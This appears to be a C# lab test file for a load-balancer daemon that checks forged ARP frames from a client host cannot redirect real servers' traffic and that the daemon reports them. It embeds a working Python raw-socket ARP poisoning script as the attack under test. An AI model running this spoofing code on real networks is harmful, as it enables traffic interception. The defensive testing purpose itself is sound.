using LvsNet.Testing;
using Xunit;

namespace LvsNet.Lab.Tests;

/// <summary>
/// ARP poisoning from the segment against the real daemon (issue 13): a host that claims real
/// servers' addresses must not move their traffic.
/// </summary>
[Trait("Category", "Lab")]
public class NeighbourLabTests
{
    // Sends hostile ARP from the client's eth0 with the client's own MAC as the claimed sender MAC:
    // the frame of the issue (who-has VIP, sender IP = rs1), a gratuitous claim of rs2, and a reply
    // to the director that it never asked for. argv: director MAC, rounds.
    private const string Attack =
        """
        import socket, struct, sys, time
        own = bytes.fromhex(open('/sys/class/net/eth0/address').read().strip().replace(':', ''))
        director = bytes.fromhex(sys.argv[1].replace(':', ''))
        zero, broadcast = b'\x00' * 6, b'\xff' * 6
        def arp(dst, op, spa, tha, tpa):
            return dst + own + b'\x08\x06' + struct.pack('!HHBBH', 1, 0x0800, 6, 4, op) + own + socket.inet_aton(spa) + tha + socket.inet_aton(tpa) + b'\x00' * 18
        frames = [arp(broadcast, 1, '10.77.0.11', zero, '10.77.0.100'),
                  arp(broadcast, 1, '10.77.0.12', zero, '10.77.0.12'),
                  arp(director, 2, '10.77.0.11', director, '10.77.0.2')]
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        s.bind(('eth0', 0))
        for _ in range(int(sys.argv[2])):
            for f in frames:
                s.send(f)
            time.sleep(0.05)
        """;

    [RequiresRootFact]
    public void Poisoning_FromTheSegment_DoesNotMoveRealServers_AndIsReported()
    {
        using var lab = Lab.Up();
        using var daemon = DaemonProcess.Start(lab, DirectRoutingLabTests.Config("rr"));
        var warm = lab.Requests(10);
        Assert.Equal(5, warm.GetValueOrDefault("rs1"));

        // The client learned the VIP's MAC from the daemon's ARP reply: that is the director's MAC.
        var neigh = lab.Exec("client", TimeSpan.FromSeconds(10), "ip", "-br", "neigh", "show", lab.Vip);
        var directorMac = neigh.StandardOutput.Split(' ', StringSplitOptions.RemoveEmptyEntries).First(w => w.Count(c => c == ':') == 5);

        var script = Path.Combine(Path.GetTempPath(), $"lvt-arp-attack-{lab.Id}.py");
        File.WriteAllText(script, Attack);
        try
        {
            var attack = lab.Exec("client", TimeSpan.FromSeconds(60), "python3", script, directorMac, "40");
            Assert.True(attack.ExitCode == 0, attack.Output);

            // Before the neighbour rules, one such frame sent every rs1 connection to the client's MAC.
            var answers = lab.Requests(40);
            Assert.Equal(20, answers.GetValueOrDefault("rs1"));
            Assert.Equal(20, answers.GetValueOrDefault("rs2"));
            Assert.Equal(0, answers.GetValueOrDefault("FAILED"));
        }
        finally
        {
            File.Delete(script);
        }

        var refused = daemon.WaitForEvent("NeighbourUpdateRefused", TimeSpan.FromSeconds(5));
        Assert.Contains("Unsolicited", refused.ToString(), StringComparison.Ordinal);
    }
}
